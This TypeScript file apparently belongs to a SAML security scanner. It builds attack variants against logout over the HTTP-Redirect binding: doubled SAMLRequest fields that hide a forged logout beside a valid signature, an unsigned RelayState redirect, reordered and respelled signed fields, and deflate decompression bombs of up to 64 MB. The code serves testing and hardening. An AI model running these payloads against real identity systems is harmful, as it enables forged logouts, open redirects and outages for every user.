import type { Text } from '../../attack.ts';
import { append } from '../../forge/pieces.ts';
import { bait } from '../../visit.ts';
import type { LogoutVariant, OpenSession } from '../logout-attack.ts';
import { type LogoutForge, ownRelayState } from '../logout-forge.ts';
import { logoutAttackOf, redirectOnly, words } from './logout-of.ts';
import { ownSession } from './own-session.ts';

const attack = logoutAttackOf({
  group: 'logout-redirect',
  bindings: redirectOnly,
  references: ['SAML Bindings 2.0, 3.4.4.1'],
});

const twoReadings: Text = {
  de: 'Geprüft wird etwas anderes als gelesen: Eine echte Signatur deckt eine gefälschte Abmeldung.',
  en: 'What is verified is not what is read: a genuine signature covers a forged logout.',
};

/** Query strings made of pairs, for the session. */
const queried = (
  forge: LogoutForge,
  name: Text,
  query: (session: OpenSession) => readonly string[],
): LogoutVariant => ({ name, craft: (session) => forge.query(query(session).join('&')) });

/** The pairs of a genuine message, and its signature. */
function genuine(forge: LogoutForge, session: Pick<OpenSession, 'nameId' | 'sessionIndex'>) {
  const [message = '', relayState = '', sigAlg = ''] = forge.pairs(forge.request(session));
  const signature = forge.signature([message, relayState, sigAlg].join('&'));
  return { message, relayState, sigAlg, signature };
}

const forgedMessage = (forge: LogoutForge, session: OpenSession): string =>
  forge.pairs(forge.request(session), { signing: 'none' })[0] ?? '';

const doubled = (forge: LogoutForge): readonly LogoutVariant[] => [
  queried(forge, words('gefälschte Abmeldung zuerst', 'forged logout first'), (session) => {
    const { message, ...own } = genuine(forge, ownSession(forge));
    return [forgedMessage(forge, session), message, own.relayState, own.sigAlg, own.signature];
  }),
  queried(forge, words('gefälschte Abmeldung danach', 'forged logout after it'), (session) => {
    const { message, ...own } = genuine(forge, ownSession(forge));
    return [message, forgedMessage(forge, session), own.relayState, own.sigAlg, own.signature];
  }),
  queried(forge, words('gefälschte Abmeldung ganz hinten', 'forged logout at the end'), (session) => [
    ...Object.values(genuine(forge, ownSession(forge))),
    forgedMessage(forge, session),
  ]),
  queried(
    forge,
    words('gefälschte Abmeldung als Feld einer Liste', 'forged logout as member of a list'),
    (session) => [
      ...Object.values(genuine(forge, ownSession(forge))),
      forgedMessage(forge, session).replace('SAMLRequest=', 'SAMLRequest[]='),
    ],
  ),
  queried(forge, words('Name verschlüsselt geschrieben', 'name percent-encoded'), (session) => [
    forgedMessage(forge, session).replace('SAMLRequest=', '%53AMLRequest='),
    ...Object.values(genuine(forge, ownSession(forge))),
  ]),
];

const foreign = `RelayState=${encodeURIComponent(`https://${bait.host}/`)}`;

const unsignedState = (forge: LogoutForge): readonly LogoutVariant[] => [
  queried(forge, words('ausgetauscht', 'exchanged'), (session) => {
    const { message, sigAlg, signature } = genuine(forge, session);
    return [message, foreign, sigAlg, signature];
  }),
  queried(forge, words('weggelassen', 'left out'), (session) => {
    const { message, sigAlg, signature } = genuine(forge, session);
    return [message, sigAlg, signature];
  }),
  queried(forge, words('angehängt', 'appended'), (session) => {
    const pairs = forge.pairs(forge.request(session), { relayState: null });
    return [...pairs, forge.signature(pairs.join('&')), foreign];
  }),
  queried(forge, words('ein zweiter angehängt', 'a second one appended'), (session) => [
    ...Object.values(genuine(forge, session)),
    foreign,
  ]),
];

/** Signed in an order that is not the one of the standard, and sent in it. */
const reordered = (forge: LogoutForge): readonly LogoutVariant[] => {
  const inOrder = (name: Text, order: readonly (0 | 1 | 2)[]) =>
    queried(forge, name, (session) => {
      const pairs = forge.pairs(forge.request(session));
      const sent = order.map((at) => pairs[at] ?? '');
      return [...sent, forge.signature(sent.join('&'))];
    });
  return [
    inOrder(words('RelayState zuerst', 'RelayState first'), [1, 0, 2]),
    inOrder(words('SigAlg zuerst', 'SigAlg first'), [2, 0, 1]),
    inOrder(words('SigAlg vor RelayState', 'SigAlg in front of RelayState'), [0, 2, 1]),
  ];
};

/** The same values in another spelling: the signature does not fit the octets any more. */
const respelled = (forge: LogoutForge): readonly LogoutVariant[] => {
  const spelled = (name: Text, change: (pair: string) => string) =>
    queried(forge, name, (session) => {
      const { message, relayState, sigAlg, signature } = genuine(forge, session);
      return [...[message, relayState, sigAlg].map(change), signature];
    });
  return [
    spelled(words('kleine Buchstaben', 'lower case'), (pair) =>
      pair.replace(/%[0-9A-F]{2}/g, (code) => code.toLowerCase()),
    ),
    spelled(words('Buchstaben verschlüsselt', 'letters encoded'), (pair) =>
      pair.replace(/=([A-Za-z])/, (_all, letter: string) => `=%${letter.charCodeAt(0).toString(16)}`),
    ),
    spelled(words('Zeilenumbruch im Base64', 'line break in the Base64'), (pair) =>
      pair.startsWith('SAMLRequest=') ? `${pair.slice(0, 40)}%0A${pair.slice(40)}` : pair,
    ),
    spelled(words('Leerzeichen hinter dem RelayState', 'blank behind the RelayState'), (pair) =>
      pair === `RelayState=${ownRelayState}` ? `${pair}+` : pair,
    ),
  ];
};

const deep = (depth: number): string => '<x>'.repeat(depth) + '</x>'.repeat(depth);

/** What fits into an address and is a thousand times as big when it was inflated. */
const bombs = (forge: LogoutForge): readonly LogoutVariant[] => {
  const bomb = (name: Text, filling: string, field: 'SAMLRequest' | 'SAMLResponse' = 'SAMLRequest') => ({
    name,
    craft: (session: OpenSession) => {
      const xml = field === 'SAMLRequest' ? forge.request(session) : forge.response();
      return forge.write('redirect', append(xml, filling), { field, signing: 'none' });
    },
  });
  const small = `<x>${'A'.repeat(3_000_000)}</x>`;
  return [
    bomb(words('3 MB in 4 kB', '3 MB in 4 kB'), small),
    bomb(words('8 MB in 11 kB', '8 MB in 11 kB'), `<x>${'A'.repeat(8_000_000)}</x>`),
    bomb(words('64 MB in 85 kB', '64 MB in 85 kB'), `<x>${'A'.repeat(64_000_000)}</x>`),
    bomb(words('300.000 Ebenen', '300,000 levels'), deep(300_000)),
    bomb(words('3 MB in einer Antwort', '3 MB in an answer'), small, 'SAMLResponse'),
  ];
};

/** What is special about messages in an address: a signature beside them, and compression. */
export const logoutRedirectAttacks = [
  attack({
    id: 'logout-redirect-doubled',
    title: {
      de: 'Feld doppelt in der Adresse der Abmeldung',
      en: 'Field twice in the address of the logout',
    },
    harm: twoReadings,
    variants: doubled,
  }),
  attack({
    id: 'logout-redirect-relay-state',
    title: { de: 'RelayState nicht mitsigniert', en: 'RelayState not signed' },
    harm: {
      de: 'Ein Fremder hängt an eine echte Abmeldung ein anderes Ziel, das als signiert gilt.',
      en: 'A stranger adds another target to a genuine logout, and it counts as signed.',
    },
    variants: unsignedState,
  }),
  attack({
    id: 'logout-redirect-order',
    severity: 'hardening',
    title: {
      de: 'Signatur über Felder in anderer Reihenfolge',
      en: 'Signature over fields in another order',
    },
    harm: twoReadings,
    variants: reordered,
  }),
  attack({
    id: 'logout-redirect-spelling',
    severity: 'hardening',
    title: {
      de: 'Felder nach dem Signieren anders geschrieben',
      en: 'Fields written differently after signing',
    },
    harm: {
      de: 'Geprüft wird nicht, was kam, sondern was die Anwendung daraus macht; darauf bauen Angriffe mit doppelten Feldern auf.',
      en: 'What is verified is not what came but what the application makes of it; attacks with doubled fields build on that.',
    },
    variants: respelled,
  }),
  attack({
    id: 'logout-inflate-bomb',
    bad: 'outage',
    title: { de: 'Kleine Adresse, riesige Abmeldung (Deflate)', en: 'Small address, huge logout (deflate)' },
    harm: {
      de: 'Wenige Links eines Fremden füllen den Speicher und legen die Anwendung für alle lahm.',
      en: 'Few links of a stranger fill the memory and paralyse the application for everybody.',
    },
    references: ['CWE-409'],
    requirements: ['A3.12.01', 'A3.13.01'],
    variants: bombs,
  }),
];
